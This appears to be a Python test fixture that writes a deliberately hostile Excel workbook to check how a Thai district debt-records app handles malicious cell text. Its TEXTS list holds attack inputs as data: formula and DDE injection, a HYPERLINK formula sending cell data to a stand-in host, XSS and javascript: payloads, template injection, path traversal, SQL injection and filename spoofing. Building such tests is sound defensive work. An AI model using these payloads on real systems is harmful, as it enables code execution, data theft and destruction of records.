"""A district's workbook in whose every text somebody has hidden something."""

from __future__ import annotations

from pathlib import Path

import xlsxwriter

from services.store.base import RawTab
from tests.support.centres import Rows, finished_centre, tabs_of

LONGEST = "ก" * 32_767
"""As many letters as a cell holds."""
TEXTS = (
    '=HYPERLINK("http://192.0.2.1/?x="&A1,"ที่นี่")', "=cmd|' /C calc'!A0", "+66812345678", "-1+1",
    "@SUM(1+1)", "\t=1+1", "\r=1+1", "＝1+1", "'=1+1", "{=1+1}", "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<!-- x -->&amp;&#60;b&#62;", "[x](javascript:alert(1))",
    "![x](http://192.0.2.1/x.png)", "www.example.com a@example.com", ":material/call: :red[x]",
    r"$\href{javascript:alert(1)}{x}$", "{{ 7*7 }} {0.__class__} {value} %s %(x)s", "# หัว\n- จุด",
    "\u202ecod.exe", "\u2066x\u2069", "บ\u200bา\u200cน\u2060", "a\x00b\x01c\x1b[31mแดง\x9b0m",
    LONGEST, "👩\u200d👩\u200d👧", "นํ้า ก่ำ", 'ก"ข,ค\nง\r\nจ;ฉ', "../../etc/passwd",
    "..\\..\\boot.ini", "file.xlsx\x00.exe", "CON", "_x001B_[31m", "\ue000",
    "'; DROP TABLE debts; --",
)  # fmt: skip
TABS = ("=1+1", "<img src=x>", "{0.__class__}", "$x$ #1", "\u202ecod.exe")
FILE = "5601 =1+1 <img src=x onerror=alert(1)> [x](javascript-alert(1)) {0} \u202ecod"
COLUMN = "=1+1 <b>ของอำเภอ</b> {0.__class__}"
FREE = {
    "centres": ("centre_name", "officer"),
    "funds": ("fund_name",),
    "households": ("head_name", "house_no", "occupation", "buddy_team"),
    "debts": ("outstanding", "other_creditor"),
    "contracts": ("method",),
    "visits": ("problem",),
}
"""Where each text stands: names and remarks, and two places that take no such thing."""


def hostile_rows() -> Rows:
    """A finished centre for each text; every text also once as a village and as codes."""
    rows: Rows = {code: [] for code in finished_centre(0)}
    for number, text in enumerate(TEXTS):
        for code, lines in finished_centre(1).items():
            for line in lines:
                own = {key: f"{cell}-{number}" for key, cell in line.items() if _is_key(key)}
                rows[code].append({**line, **own, **dict.fromkeys(FREE.get(code, ()), text)})
        village = ("village_code", "village", "tambon", "savings_group", "assessor")
        rows["readiness"].append({**dict.fromkeys(village, text), "moo": "1"})
    for number, text in enumerate(TEXTS[:-1]):
        rows["centres"].append({"centre_id": text, "centre_name": f"ศูนย์ {number}", "tambon": text})
    return rows


def _is_key(code: str) -> bool:
    return code.endswith(("_id", "_no"))


def hostile_workbook(folder: Path) -> None:
    """Write it as a district would leave it."""
    path = folder / "2565" / f"{FILE}.xlsx"
    path.parent.mkdir(parents=True)
    with xlsxwriter.Workbook(str(path)) as book:
        for tab in (*map(_with_own_column, tabs_of(hostile_rows())), *_own_tabs()):
            sheet = book.add_worksheet(tab.name)
            for number, row in enumerate(tab.rows):
                for place, cell in enumerate(row):
                    assert cell == "" or sheet.write_string(number, place, str(cell)) == 0


def _with_own_column(tab: RawTab) -> RawTab:
    header, *body = tab.rows
    own = [TEXTS[number % len(TEXTS)] for number in range(len(body))]
    return RawTab(
        tab.name, [[*header, COLUMN], *([*row, text] for row, text in zip(body, own, strict=True))]
    )


def _own_tabs() -> list[RawTab]:
    return [RawTab(name, [[text] for text in TEXTS]) for name in TABS]
